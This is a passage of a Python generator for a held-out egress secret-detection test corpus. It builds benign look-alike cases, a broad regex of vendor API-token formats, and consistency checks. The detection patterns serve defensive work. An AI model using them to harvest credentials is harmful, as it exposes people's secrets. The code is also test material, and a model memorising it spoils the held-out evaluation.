                                                                      "python-requests/2.%d.%d" % (ri(20, 32), ri(0, 3)), "node-fetch/%d.%d" % (ri(1, 3), ri(0, 9)), "claude-cli/1.%d.%d" % (ri(0, 9), ri(0, 40))]))
    if k == 1:
        return neg("version-string", "body", "\n".join("%s==%d.%d.%d" % (p, ri(0, 5), ri(0, 30), ri(0, 20)) for p in R.sample(["requests", "numpy", "pandas", "fastapi", "pydantic", "uvicorn", "httpx"], 4)) + "\n", "text/plain")
    if k == 2:
        return neg("version-string", "url", "https://cdn.jsdelivr.net/npm/%s@%d.%d.%d/dist/index.min.js" % (pick(["vue", "react", "d3"]), ri(1, 18), ri(0, 9), ri(0, 20)))
    return neg("version-string", "body", J({"dependencies": {p: "^%d.%d.%d" % (ri(0, 9), ri(0, 20), ri(0, 9)) for p in R.sample(["express", "zod", "axios", "lodash", "vite"], 3)}}), "application/json")


def n_macip():
    mac = ":".join("%02x" % b for b in rb(6))
    ip4 = "%d.%d.%d.%d" % (pick([10, 172, 192, 203]), ri(0, 255), ri(0, 255), ri(1, 254))
    ip6 = "2001:db8:%x:%x::%x" % (ri(0, 65535), ri(0, 65535), ri(1, 65535))
    k = ri(0, 2)
    if k == 0:
        return neg("mac-ip-address", "body", J({"devices": [{"hostname": pick(WORDS) + "-%02d" % ri(1, 40), "mac": mac, "ipv4": ip4, "ipv6": ip6}]}), "application/json")
    if k == 1:
        return neg("mac-ip-address", "header", "X-Forwarded-For: %s, %s" % (ip4, "10.%d.%d.%d" % (ri(0, 255), ri(0, 255), ri(1, 254))))
    return neg("mac-ip-address", "url", "https://ipinfo.io/%s/json" % pick([ip4, quote(ip6, safe="")]))


def n_cloudhost():
    h = pick(["%s-%s.s3.%s.amazonaws.com" % (pick(ORGS), pick(["assets", "logs", "backups"]), pick(REGIONS)),
              "%s%s.blob.core.windows.net" % (pick(WORDS), ri(10, 99)),
              "%s-%s-uc.a.run.app" % (pick(REPOS), rs(LOW, 10)),
              "%s-%s.azurewebsites.net" % (pick(REPOS), pick(["prod", "dev"])),
              "d%s.cloudfront.net" % rs(LOWNUM, 13),
              "%s.execute-api.%s.amazonaws.com" % (rs(LOWNUM, 10), pick(REGIONS)),
              "%s.supabase.co" % rs(LOW, 20),
              "%s-%d.%s.elb.amazonaws.com" % (pick(REPOS), ri(10 ** 8, 10 ** 10), pick(REGIONS)),
              "%s-default-rtdb.firebaseio.com" % pick(WORDS)])
    return neg("cloud-hostname", "hostname", h)


def n_preview():
    h = pick(["%s-git-%s-%s.vercel.app" % (pick(REPOS), pick(["feat-login", "fix-nav", "main"]), pick(ORGS)),
              "%s-%s-%s.vercel.app" % (pick(REPOS), rs(LOWNUM, 9), pick(ORGS)),
              "deploy-preview-%d--%s.netlify.app" % (ri(1, 999), pick(REPOS)),
              "%s.%s.pages.dev" % (rs(HEXL, 8), pick(REPOS)),
              "%s-pr-%d.onrender.com" % (pick(REPOS), ri(1, 500)),
              "%s-%s.fly.dev" % (pick(REPOS), pick(["staging", "preview"])),
              "%s-%s.herokuapp.com" % (pick(REPOS), rs(HEXL, 12))])
    if chance(0.3):
        return neg("deploy-preview-hostname", "url", "https://%s/%s" % (h, pick(["", "api/health", "login"])))
    return neg("deploy-preview-hostname", "hostname", h)


def n_analytics():
    k = ri(0, 3)
    if k == 0:
        u = "https://www.google-analytics.com/g/collect?v=2&tid=G-%s&cid=%d.%d&en=page_view&dl=%s" % (rs(UPNUM, 10), ri(10 ** 8, 10 ** 9), ri(1700000000, 1760000000), quote("https://www.%s.com/pricing" % pick(ORGS), safe=""))
    elif k == 1:
        u = "https://www.googletagmanager.com/gtm.js?id=GTM-%s" % rs(UPNUM, 7)
    elif k == 2:
        u = "https://www.facebook.com/tr?id=%d&ev=PageView&noscript=1" % ri(10 ** 14, 10 ** 16)
    else:
        return neg("analytics-id", "body", J({"type": "track", "event": "Signup Clicked", "anonymousId": uuid4(), "properties": {"plan": "pro"}, "context": {"ga": "UA-%d-%d" % (ri(10 ** 7, 10 ** 8), ri(1, 9))}}), "application/json")
    return neg("analytics-id", "url", u)


def n_apiurl():
    u = pick(["https://api.github.com/repos/%s/%s/pulls?state=open&per_page=50" % (pick(ORGS), pick(REPOS)),
              "https://pypi.org/pypi/%s/json" % pick(["requests", "httpx", "fastapi", "polars"]),
              "https://registry.npmjs.org/%s" % pick(["react", "zod", "@types%2fnode"]),
              "https://api.open-meteo.com/v1/forecast?latitude=%d.%02d&longitude=%d.%02d&hourly=temperature_2m" % (ri(-60, 60), ri(0, 99), ri(-120, 120), ri(0, 99)),
              "https://en.wikipedia.org/w/api.php?action=query&format=json&prop=extracts&titles=%s" % pick(["Python_(programming_language)", "Kubernetes", "Rust"]),
              "https://api.stackexchange.com/2.3/search?order=desc&sort=activity&intitle=%s&site=stackoverflow" % quote(pick(["asyncio timeout", "docker compose env"])),
              "https://huggingface.co/api/models?search=%s&limit=20" % pick(["bert", "whisper", "llama"]),
              "https://hub.docker.com/v2/repositories/library/%s/tags?page_size=25" % pick(["python", "node", "postgres"]),
              "https://api.crossref.org/works?query=%s&rows=5" % quote(pick(["graph neural networks", "protein folding"]))])
    return neg("api-url", "url", u)


def n_header():
    h = pick(["Accept: application/vnd.github+json", "Content-Type: application/json; charset=utf-8", "Cache-Control: no-cache, no-store",
              "Accept-Language: de-DE,de;q=0.9,en;q=0.8", "X-GitHub-Api-Version: 2022-11-28", "anthropic-version: 2023-06-01",
              "OpenAI-Beta: assistants=v2", "Accept-Encoding: gzip, deflate, br", "Cookie: _ga=GA1.2.%d.%d; theme=dark; lang=en" % (ri(10 ** 8, 10 ** 9), ri(1700000000, 1760000000)),
              "Sec-Fetch-Mode: cors", "Notion-Version: 2022-06-28", "X-RateLimit-Remaining: %d" % ri(0, 5000), "Referer: https://www.%s.com/docs/getting-started" % pick(ORGS),
              "Origin: https://app.%s.io" % pick(ORGS), "Content-Length: %d" % ri(10, 90000)])
    return neg("http-header", "header", h)


def n_compressed():
    o = pick([{"events": [{"name": pick(["click", "view", "scroll"]), "ts": iso_ts(), "path": "/" + pick(WORDS)} for _ in range(ri(3, 8))]},
              {"logs": ["%s INFO request path=/api/%s status=200 dur=%dms" % (iso_ts(), pick(WORDS), ri(1, 900)) for _ in range(ri(3, 8))]},
              {"query": "SELECT id, name FROM products WHERE category = 'books' LIMIT 50"},
              {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "Summarise: " + " ".join(pick(WORDS) for _ in range(40))}]}])
    return neg("compressed-benign-body", "body", J(o), "application/json", cenc=pick(["gzip", "deflate"]))


def n_llm():
    task = pick(["Refactor this function to use async/await:\n\nfunction load(cb){ fs.readFile('a.txt', cb) }",
                 "Explain the difference between a mutex and a semaphore.", "Write a SQL query returning the top 5 customers by revenue.",
                 "Translate 'good morning, the meeting moved to 3pm' into Japanese.", "Why does `git rebase -i HEAD~3` open vim?",
                 "Generate unit tests for a function that parses ISO-8601 dates."])
    k = ri(0, 2)
    if k == 0:
        o = {"model": pick(["gpt-4o", "gpt-4.1"]), "messages": [{"role": "user", "content": task}], "tools": [{"type": "function", "function": {"name": "run_tests", "parameters": {"type": "object", "properties": {"path": {"type": "string"}}}}}]}
    elif k == 1:
        o = {"model": "claude-sonnet-4-20250514", "max_tokens": 2048, "system": "You are a senior engineer.", "messages": [{"role": "user", "content": task}], "stream": True}
    else:
        o = {"contents": [{"role": "user", "parts": [{"text": task}]}], "safetySettings": [{"category": "HARM_CATEGORY_HARASSMENT", "threshold": "BLOCK_ONLY_HIGH"}]}
    return neg("llm-request-benign", "body", J(o), "application/json")


def n_mcp():
    o = pick([{"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": {"protocolVersion": "2025-06-18", "capabilities": {"roots": {"listChanged": True}}, "clientInfo": {"name": "agent", "version": "1.%d.0" % ri(0, 9)}}},
              {"jsonrpc": "2.0", "id": ri(1, 99), "method": "tools/list"},
              {"jsonrpc": "2.0", "id": ri(1, 99), "method": "tools/call", "params": {"name": "read_file", "arguments": {"path": pick(["src/app.py", "README.md", "package.json"])}}},
              {"jsonrpc": "2.0", "id": ri(1, 99), "method": "resources/read", "params": {"uri": "file:///workspace/%s/docs/intro.md" % pick(REPOS)}},
              {"jsonrpc": "2.0", "method": "notifications/initialized"},
              {"jsonrpc": "2.0", "id": ri(1, 99), "method": "tools/call", "params": {"name": "search_code", "arguments": {"query": "def parse_config", "max_results": 20}}}])
    return neg("mcp-request-benign", "body", J(o), "application/json")


def n_oauth():
    st = b64u(rb(24))
    ch = b64u(hashlib.sha256(rb(32)).digest())
    k = ri(0, 2)
    if k == 0:
        u = "https://accounts.google.com/o/oauth2/v2/auth?client_id=%d-%s.apps.googleusercontent.com&redirect_uri=%s&response_type=code&scope=%s&state=%s&code_challenge=%s&code_challenge_method=S256" % (
            ri(10 ** 11, 10 ** 12 - 1), rs(LOWNUM, 32), quote("http://localhost:8765/callback", safe=""), quote("openid email", safe=""), st, ch)
    elif k == 1:
        u = "https://github.com/login/oauth/authorize?client_id=Iv1.%s&redirect_uri=%s&state=%s" % (rs(HEXL, 16), quote("https://app.%s.com/auth/callback" % pick(ORGS), safe=""), st)
    else:
        u = "https://login.microsoftonline.com/%s/oauth2/v2.0/authorize?client_id=%s&response_type=code&scope=%s&state=%s&nonce=%s&code_challenge=%s&code_challenge_method=S256" % (
            uuid4(), uuid4(), quote("User.Read offline_access", safe=""), st, rs(ALNUM, 16), ch)
    return neg("oauth-public-params", "url", u)


def n_pk():
    k = ri(0, 3)
    if k == 0:
        pk = pick(["pk_live_", "pk_test_"]) + pick(["51", ""]) + rs(ALNUM, pick([24, 97]))
        return neg("publishable-key", "body", "<script src=\"https://js.stripe.com/v3/\"></script>\n<script>const stripe = Stripe('%s');</script>\n" % pk, "text/html")
    if k == 1:
        pk = "pk_live_" + b64("clerk.%s.com$" % pick(ORGS)).rstrip("=")
        return neg("publishable-key", "body", J({"publishableKey": pk, "afterSignInUrl": "/dashboard"}), "application/json")
    if k == 2:
        return neg("publishable-key", "body", "<div class=\"g-recaptcha\" data-sitekey=\"6L%s\"></div>" % rs(B64U, 38), "text/html")
    return neg("publishable-key", "header", "X-Stripe-Publishable-Key: pk_test_%s" % rs(ALNUM, 24))


def n_badiban():
    k = ri(0, 1)
    if k == 0:
        cc = pick(["ZZ", "XA", "UU", "JJ", "QX"])
        ib = iban_make(cc, rs(DIG, ri(14, 20)))
    else:
        cc = pick(["DE", "FR", "NL", "GB"])
        bad = IBAN_LEN[cc] - 4 + pick([-2, -1, 1, 2])
        ib = iban_make(cc, rs(UPNUM if cc in ("GB", "NL") else DIG, bad))
    if chance(0.5):
        return neg("look-alike-iban", "body", J({"iban": ib, "note": "from legacy import", "valid": False}), "application/json")
    return neg("look-alike-iban", "body", J({"batch_ref": ib, "items": ri(1, 90)}), "application/json")


def n_badcrypto():
    k = ri(0, 3)
    if k == 0:
        a = "1" + rs(B58, 14) + pick("0OIl") + rs(B58, 17)
        return neg("look-alike-crypto-address", "body", J({"address": a, "valid": False}), "application/json")
    if k == 1:
        return neg("look-alike-crypto-address", "url", "https://etherscan.io/tx/0x%s" % rs(HEXL, 64))
    if k == 2:
        return neg("look-alike-crypto-address", "body", J({"to": "0x" + rs(HEXL, pick([38, 39, 36])), "error": "invalid address length"}), "application/json")
    a = "bc1q" + rs(BECH, 10) + pick("bio") + rs(BECH, 27)
    return neg("look-alike-crypto-address", "body", J({"withdraw_address": a, "status": "rejected"}), "application/json")


def n_trace():
    h = pick(["traceparent: 00-%s-%s-01" % (rs(HEXL, 32), rs(HEXL, 16)), "X-Amzn-Trace-Id: Root=1-%s-%s" % (rs(HEXL, 8), rs(HEXL, 24)),
              "X-B3-TraceId: %s" % rs(HEXL, 32), "X-Cloud-Trace-Context: %s/%d;o=1" % (rs(HEXL, 32), ri(10 ** 17, 10 ** 19)),
              "sentry-trace: %s-%s-1" % (rs(HEXL, 32), rs(HEXL, 16)), "X-Datadog-Trace-Id: %d" % ri(10 ** 17, 10 ** 19)])
    return neg("trace-id", "header", h)


def n_form():
    k = ri(0, 2)
    if k == 0:
        return neg("benign-form-submission", "body", "q=%s&category=%s&page=%d" % (quote_plus(pick(["usb c hub", "rust book", "winter jacket"])), pick(["all", "books"]), ri(1, 5)), "application/x-www-form-urlencoded")
    if k == 1:
        return neg("benign-form-submission", "body", "name=%s&email=%s&message=%s" % (quote_plus(" ".join(person())), quote_plus(email()), quote_plus("Hi, I'd like a demo next week.")), "application/x-www-form-urlencoded")
    bd = "formdata-" + rs(ALNUM, 16)
    s = "--%s\r\nContent-Disposition: form-data; name=\"file\"; filename=\"products.csv\"\r\nContent-Type: text/csv\r\n\r\nsku,name,price\nA-%d,%s,%d.99\n\r\n--%s--\r\n" % (bd, ri(100, 999), pick(WORDS), ri(1, 99), bd)
    return neg("benign-form-submission", "body", s, "multipart/form-data; boundary=" + bd)


def n_config():
    k = ri(0, 2)
    if k == 0:
        s = "server:\n  port: %d\n  read_timeout: 30s\nauth:\n  token_ttl: 3600\n  password_min_length: 12\n  session_cookie: secure\nfeature_flags:\n  new_checkout: true\n" % ri(3000, 9000)
        return neg("benign-config-file", "body", s, "application/yaml")
    if k == 1:
        s = "[database]\nhost = \"db.%s.internal\"\nport = 5432\npool_size = %d\n\n[logging]\nlevel = \"info\"\n" % (pick(ORGS), ri(5, 50))
        return neg("benign-config-file", "body", s, "application/toml")
    s = "NODE_ENV=production\nPORT=%d\nLOG_LEVEL=debug\nAPI_BASE_URL=https://api.%s.com\nCACHE_TTL=300\n" % (ri(3000, 9000), pick(ORGS).replace("-", ""))
    return neg("benign-config-file", "body", s, "text/plain")


def n_logs():
    lines = []
    for _ in range(ri(3, 7)):
        lines.append("%s - - [%02d/Jan/2025:%02d:%02d:%02d +0000] \"%s /%s HTTP/1.1\" %d %d \"-\" \"%s\"" % (
            "198.51.100.%d" % ri(1, 254), ri(1, 28), ri(0, 23), ri(0, 59), ri(0, 59), pick(["GET", "POST"]), pick(["api/items", "health", "login", "static/app.css"]),
            pick([200, 200, 304, 404, 500]), ri(100, 90000), pick(["curl/8.5.0", "Mozilla/5.0"])))
    return neg("benign-log-lines", "body", "\n".join(lines) + "\n", "text/plain")


NEG_CATS = [("uuid", n_uuid, 11), ("git-sha", n_gitsha, 11), ("content-digest", n_digest, 11), ("hashed-asset-path", n_asset, 11),
            ("cloud-document-id", n_docid, 11), ("base64-image", n_image, 10), ("pagination-cursor", n_cursor, 11), ("sri-hash", n_sri, 10),
            ("ssh-public-key", n_ssh, 10), ("masked-secret", n_masked, 11), ("placeholder-secret", n_placeholder, 11), ("secret-prose", n_prose, 11),
            ("code-secret-reference", n_coderef, 11), ("luhn-invalid-number", n_luhnbad, 10), ("phone-number", n_phone, 10), ("isbn", n_isbn, 10),
            ("order-number", n_order, 10), ("timestamp", n_timestamp, 10), ("version-string", n_version, 10), ("mac-ip-address", n_macip, 10),
            ("cloud-hostname", n_cloudhost, 11), ("deploy-preview-hostname", n_preview, 11), ("analytics-id", n_analytics, 11), ("api-url", n_apiurl, 11),
            ("http-header", n_header, 11), ("compressed-benign-body", n_compressed, 11), ("llm-request-benign", n_llm, 11), ("mcp-request-benign", n_mcp, 11),
            ("oauth-public-params", n_oauth, 10), ("publishable-key", n_pk, 10), ("look-alike-iban", n_badiban, 10), ("look-alike-crypto-address", n_badcrypto, 10),
            ("trace-id", n_trace, 10), ("benign-form-submission", n_form, 10), ("benign-config-file", n_config, 10), ("benign-log-lines", n_logs, 10)]


# ================================================================ scanning negatives
VENDOR_RX = re.compile(r"(?<![A-Za-z0-9])(?:" + "|".join([
    r"gh[pousr]_[A-Za-z0-9]{30,}", r"github_pat_[A-Za-z0-9_]{40,}", r"glpat-[A-Za-z0-9_-]{20,}", r"gl(?:rt|dt|ptt|cbt|soat)-[A-Za-z0-9_-]{16,}",
    r"GR1348941[A-Za-z0-9_-]{16,}", r"xox[abposr]-[A-Za-z0-9-]{10,}", r"xapp-\d-[A-Za-z0-9-]{10,}", r"hooks\.slack\.com/services/T",
    r"discord(?:app)?\.com/api/webhooks/\d+/", r"\d{8,10}:AA[A-Za-z0-9_-]{30,}", r"[sr]k_(?:live|test)_[A-Za-z0-9]{10,}", r"whsec_[A-Za-z0-9]{20,}",
    r"sk-[A-Za-z0-9_-]{20,}", r"hf_[A-Za-z0-9]{30,}", r"gsk_[A-Za-z0-9]{40,}", r"r8_[A-Za-z0-9]{30,}", r"(?:AKIA|ASIA|AGPA|AIDA|AROA)[A-Z2-7]{16}",
    r"IQoJb3JpZ2lu", r"FwoGZXIvYXdz", r"AccountKey=[A-Za-z0-9+/]{40,}", r"SharedAccessKey=[A-Za-z0-9+/]{20,}", r"sig=[A-Za-z0-9%+/]{20,}",
    r"[A-Za-z0-9]{3}8Q~[A-Za-z0-9_.~-]{30,}", r"AIza[0-9A-Za-z_-]{35}", r"GOCSPX-[A-Za-z0-9_-]{20,}", r"ya29\.[A-Za-z0-9_-]{20,}",
    r"npm_[A-Za-z0-9]{36}", r"pypi-AgE[A-Za-z0-9_-]{20,}", r"dckr_pat_[A-Za-z0-9_-]{20,}", r"rubygems_[a-f0-9]{40,}", r"NRAK-[A-Z0-9]{20,}",
    r"sntry[us]_[A-Za-z0-9=_+/-]{30,}", r"glsa_[A-Za-z0-9]{20,}", r"glc_[A-Za-z0-9+/=]{20,}", r"pscale_(?:tkn|pw|oauth)_[A-Za-z0-9_.-]{20,}",
    r"sbp_[a-f0-9]{40}", r"dapi[a-f0-9]{32}", r"do[por]_v1_[a-f0-9]{64}", r"hv[sb]\.[A-Za-z0-9_-]{20,}", r"dp\.(?:pt|st|ct|sa)\.[A-Za-z0-9.]{20,}",
    r"[A-Za-z0-9]{14}\.atlasv1\.[A-Za-z0-9_=-]{30,}", r"HRKU-[A-Za-z0-9_-]{20,}", r"shp(?:at|ss|ca|pa)_[a-fA-F0-9]{32}",
    r"SG\.[A-Za-z0-9_-]{16,}\.[A-Za-z0-9_-]{16,}", r"key-[a-f0-9]{32}", r"PMAK-[a-f0-9]{24}-[a-f0-9]{34}", r"lin_api_[A-Za-z0-9]{30,}",
    r"ATATT3[A-Za-z0-9_=-]{30,}", r"(?:ntn|secret)_[A-Za-z0-9]{40,}", r"eyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.",
    r"AGE-SECRET-KEY-1", "-" * 5 + "BEGIN"]) + ")")
SECRET_NAMES = ("password", "passwd", "pwd", "secret", "apikey", "accesstoken", "authtoken", "refreshtoken", "privatekey", "clientsecret",
                "secretkey", "token", "accesskey", "credential", "credentials", "signingkey", "sessiontoken", "apitoken", "auth")
NAME_EXCL = ("page", "next", "cursor", "csrf", "xsrf", "sync", "continuation", "public", "publishable", "pk")
KV_RX = re.compile(r"([A-Za-z_][A-Za-z0-9_.\-]*)[\"']?\s*(?:=|:|=>)\s*[\"']?([A-Za-z0-9+/=_\-.~]{12,})")


def hostname_flag(h):
    for lab in h.lower().split("."):
        if re.fullmatch(r"[a-z0-9]{20,}", lab) and re.search(r"\d", lab) and re.search(r"[a-z]", lab) and entropy(lab) >= 3.5:
            return True
    return False


def scan_views(text):
    vs = [text]
    for f in (unquote, unquote_plus, html.unescape, jsonu_dec, lambda t: unquote(unquote(t))):
        vs.append(f(text))
    vs.append(b64_pieces(text))
    vs.append(b64_pieces(unquote(text)))
    vs.append(hex_pieces(text))
    return vs


def scan_negative(case):
    """Return a reason string if the negative looks like it contains a secret."""
    if "base64" in case:
        b = base64.b64decode(case["base64"])
        if case.get("content_encoding") == "gzip":
            b = gzip.decompress(b)
        elif case.get("content_encoding") == "deflate":
            b = zlib.decompress(b)
        text = b.decode("utf-8", "replace")
    else:
        text = case["text"]
    if case["where"] == "hostname" and hostname_flag(text):
        return "hostname-entropy"
    if case["where"] == "url" and hostname_flag(urlsplit(text).hostname or ""):
        return "url-host-entropy"
    for v in scan_views(text):
        if VENDOR_RX.search(v):
            return "vendor:" + VENDOR_RX.search(v).group(0)[:12]
        for m in re.finditer(r"(?<!\d)(?:\d[ -]?){12,18}\d(?!\d)", v):
            d = re.sub(r"\D", "", m.group(0))
            if 13 <= len(d) <= 19 and luhn_ok(d):
                return "luhn"
        for m in re.finditer(r"(?<![A-Z0-9])[A-Z]{2}\d{2}(?: ?[A-Z0-9]){11,30}", v):
            s = m.group(0).replace(" ", "")
            for L in range(15, min(len(s), 34) + 1):
                if iban_valid(s[:L]):
                    return "iban"
        for m in re.finditer(r"(?<![A-Za-z0-9])[13][1-9A-HJ-NP-Za-km-z]{25,34}(?![A-Za-z0-9])", v):
            if b58check_ok(m.group(0)):
                return "b58"
        for m in re.finditer(r"(?<![A-Za-z0-9])(?:bc|tb)1[02-9ac-hj-np-z]{6,87}(?![A-Za-z0-9])", v):
            if segwit_ok(m.group(0)):
                return "bech32"
        if re.search(r"(?<![A-Za-z0-9])0x[0-9a-fA-F]{40}(?![0-9a-fA-F])", v):
            return "eth"
        for m in re.finditer(r"(?i)basic\s+([A-Za-z0-9+/]{6,}={0,2})", v):
            b = _b64dec(m.group(1))
            if b and b":" in b and all(32 <= x < 127 for x in b):
                return "basic"
        if re.search(r"[a-zA-Z][a-zA-Z0-9+.-]*://[^/\s:@\"']+:[^/\s@\"']+@", v):
            return "userinfo"
        if re.search(r"(?i)bearer\s+[A-Za-z0-9._~+/-]{20,}", v):
            return "bearer"
        for m in KV_RX.finditer(v):
            nm = re.sub(r"[^a-z0-9]", "", m.group(1).lower())
            val = m.group(2)
            if nm.endswith(SECRET_NAMES) and not any(x in nm for x in NAME_EXCL):
                if re.search(r"\d", val) and re.search(r"[A-Za-z]", val) and entropy(val) >= 3.3:
                    return "named-secret:" + nm
    return None


# ================================================================ build
def strip_meta(c):
    return {k: v for k, v in c.items() if not k.startswith("_")}


def payload_of(c):
    return c.get("text") if "text" in c else c["base64"]


def build():
    global R, _aws_examples, _aws_sec_examples, _stripe_examples, TEST_CARDS, _iban_examples, _btc_examples
    R = random.Random(SEED)
    _aws_examples = ["AKIAIOSFODNN7EXAMPLE"]
    _aws_sec_examples = ["wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"]
    _stripe_examples = ["sk_test_4eC39HqLyjWDarjtT1zdp7dc"]
    TEST_CARDS = ["4242424242424242", "4111111111111111", "5555555555554444", "378282246310005",
                  "6011111111111117", "3566002020360505", "5105105105105100", "4000056655665556"]
    _iban_examples = ["DE89370400440532013000", "GB82WEST12345698765432"]
    _btc_examples = ["1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"]
    seen = set()
    pos = []
    for c in CLASSES:
        for _ in range(c["n"]):
            for _t in range(50):
                case = build_positive(c)
                key = payload_of(case)
                if key not in seen and verify_positive(case) is None:
                    seen.add(key)
                    pos.append(case)
                    break
            else:
                raise AssertionError("could not build positive " + c["name"])
    negs = []
    regen = 0
    for cat, fn, n in NEG_CATS:
        for _ in range(n):
            for _t in range(200):
                case = fn()
                assert case["expect"] == cat
                key = payload_of(case)
                if key in seen or scan_negative(case) or wellformed(case):
                    regen += 1
                    continue
                seen.add(key)
                negs.append(case)
                break
            else:
                raise AssertionError("could not build negative " + cat)
    R.shuffle(pos)
    R.shuffle(negs)
    for i, c in enumerate(pos):
        c["id"] = "t7-pos-%04d" % (i + 1)
    for i, c in enumerate(negs):
        c["id"] = "t7-neg-%04d" % (i + 1)
    return pos, negs, regen


ORDER = ["id", "label", "expect", "where", "content_type", "content_encoding", "text", "base64"]


def line_of(c):
    return json.dumps({k: c[k] for k in ORDER if k in c}, ensure_ascii=False)


def render(cases):
    return ("\n".join(line_of(c) for c in cases) + "\n").encode("utf-8")


# ================================================================ checks
ALLOWED = set(ORDER)


def decoded_text(c):
    if "text" in c:
        return c["text"]
    b = base64.b64decode(c["base64"], validate=True)
    ce = c.get("content_encoding")
    if ce == "gzip":
        b = gzip.decompress(b)
    elif ce == "deflate":
        b = zlib.decompress(b)
    return b.decode("utf-8", "replace")


def wellformed(c):
    """Return an error string or None."""
    keys = set(k for k in c if not k.startswith("_"))
    if not keys <= ALLOWED:
        return "keys"
    if ("text" in c) == ("base64" in c):
        return "text/base64"
    if c["label"] not in ("positive", "negative") or c["where"] not in ("body", "url", "header", "hostname"):
        return "label/where"
    if not re.fullmatch(r"[a-z0-9]+(?:-[a-z0-9]+)*", c["expect"]):
        return "expect"
    if ("content_type" in c or "content_encoding" in c) and c["where"] != "body":
        return "ctype-nonbody"
    if "content_encoding" in c and (c["content_encoding"] not in ("gzip", "deflate") or "base64" not in c):
        return "cenc"
    if "base64" in c:
        s = c["base64"]
        if not re.fullmatch(r"[A-Za-z0-9+/]*={0,2}", s) or len(s) % 4:
            return "b64-strict"
        try:
            b = base64.b64decode(s, validate=True)
            if base64.b64encode(b).decode() != s:
                return "b64-canon"
            if c.get("content_encoding") == "gzip":
                gzip.decompress(b)
            elif c.get("content_encoding") == "deflate":
                zlib.decompress(b)
        except Exception as e:
            return "decode:%s" % e
    if c["where"] == "body":
        return None
    t = c.get("text")
    if t is None:
        return "nonbody-b64"
    if c["where"] == "header":
        m = re.fullmatch(r"([!#$%&'*+.^_`|~0-9A-Za-z-]+): ([\x20-\x7e]*)", t)
        if not m or t != t.strip() or not t.isascii():
            return "header"
    elif c["where"] == "url":
        if not t.isascii() or re.search(r"[\s\x00-\x1f\x7f]", t) or not re.match(r"https?://", t):
            return "url-scheme"
        if re.search(r"%(?![0-9A-Fa-f]{2})", t):
            return "url-pct"
        u = urlsplit(t)
        if not u.hostname:
            return "url-host"
        h = u.hostname
        if not re.fullmatch(r"\d+\.\d+\.\d+\.\d+", h) and not ldh(h):
            return "url-ldh"
    elif c["where"] == "hostname":
        if not ldh(t):
            return "hostname"
    return None


def ldh(h):
    if len(h) > 253 or "." not in h:
        return False
    return all(re.fullmatch(r"[A-Za-z0-9](?:[A-Za-z0-9-]{0,61}[A-Za-z0-9])?", l) for l in h.split("."))


def verify_positive(c):
    err = wellformed(c)
    if err:
        return err
    view = decoded_text(c)
    try:
        for op in c["_ops"]:
            view = apply_op(op, view)
    except Exception as e:
        return "op-fail:%s" % e
    sec = c["_secret"]
    if sec is None or sec not in view:
        if not (c["_ops"] and c["_ops"][-1] == "dehex" and sec.lower() in view.lower()):
            return "secret-not-recovered"
    k = c["_kind"]
    if k == "luhn" and not (luhn_ok(sec) and 13 <= len(sec) <= 19):
        return "luhn"
    if k == "iban" and not iban_valid(sec):
        return "iban"
    if k == "btc" and not (b58check_ok(sec) if sec[0] in "13" else segwit_ok(sec)):
        return "btc"
    if k == "eth" and not (re.fullmatch(r"0x[0-9a-fA-F]{40}", sec) and eip55_ok(sec)):
        return "eth"
    if c["expect"] == "bitcoin-address" and c["_kind"] != "btc":
        return "kind"
    return None


def check(write_if_missing=False):
    selftest()
    pos, negs, _ = build()
    exp_pos, exp_neg = render(pos), render(negs)
    errors = []
    for path, exp, label, prefix, cases in ((POS_FILE, exp_pos, "positive", "t7-pos-", pos), (NEG_FILE, exp_neg, "negative", "t7-neg-", negs)):
        with open(path, "rb") as f:
            data = f.read()
        if data != exp:
            errors.append("%s differs from generator output" % os.path.basename(path))
        lines = data.decode("utf-8").splitlines()
        for i, ln in enumerate(lines):
            try:
                obj = json.loads(ln)
            except Exception:
                errors.append("%s:%d not JSON" % (path, i + 1))
                continue
            if obj.get("id") != "%s%04d" % (prefix, i + 1):
                errors.append("%s:%d id" % (path, i + 1))
            if obj.get("label") != label:
                errors.append("%s:%d label" % (path, i + 1))
            w = wellformed(obj)
            if w:
                errors.append("%s:%d %s" % (path, i + 1, w))
            if ("-" * 5 + "BEGIN") in decoded_text(obj):
                errors.append("%s:%d armour" % (path, i + 1))
        if len(lines) != len(cases):
            errors.append("line count")
    allp = [payload_of(c) for c in pos + negs]
    if len(set(allp)) != len(allp):
        errors.append("duplicate payloads")
    # positives: recover secret mechanically from the on-disk lines
    disk_pos = [json.loads(l) for l in open(POS_FILE, encoding="utf-8").read().splitlines()]
    for c, d in zip(pos, disk_pos):
        d2 = dict(d)
        d2["_secret"], d2["_ops"], d2["_kind"] = c["_secret"], c["_ops"], c["_kind"]
        e = verify_positive(d2)
        if e:
            errors.append("%s: %s" % (d["id"], e))
    disk_neg = [json.loads(l) for l in open(NEG_FILE, encoding="utf-8").read().splitlines()]
    for d in disk_neg:
        e = scan_negative(d)
        if e:
            errors.append("%s flagged: %s" % (d["id"], e))
    return errors


def table(cases):
    cnt = {}
    for c in cases:
        cnt[c["expect"]] = cnt.get(c["expect"], 0) + 1
    return cnt


def wheres(cases):
    cnt = {"body": 0, "url": 0, "header": 0, "hostname": 0}
    for c in cases:
        cnt[c["where"]] += 1
    return cnt


def readme(pos, negs, regen, hp, hn):
    pc, nc = table(pos), table(negs)
    wp, wn = wheres(pos), wheres(negs)
    L = []
    L.append("# Egress secret-detection corpus — split 7 (held out)\n")
    L.append("**This corpus is held out.** Use it once to measure generalisation. Never tune, train, or adjust rules or thresholds on it, "
             "and never copy its cases into development fixtures. Report results by class/category only (per-class recall, "
             "per-category false-positive rate); do not publish or quote individual cases.\n")
    L.append("## Files\n")
    L.append("| file | lines | sha256 |\n|---|---:|---|")
    L.append("| positives.jsonl | %d | `%s` |" % (len(pos), hp))
    L.append("| negatives.jsonl | %d | `%s` |\n" % (len(negs), hn))
    L.append("Regenerate (deterministic, single `random.Random(%d)`, gzip mtime=0):\n" % SEED)
    L.append("```\nnice python3 generate.py          # writes both files + README, then runs the checker\nnice python3 generate.py --check  # checker only\n```\n")
    L.append("## Line format\n")
    L.append("One JSON object per line with keys:\n")
    L.append("- `id`: `t7-pos-NNNN` / `t7-neg-NNNN`, sequential from 0001 after shuffling within each file.")
    L.append("- `label`: `positive` or `negative`.")
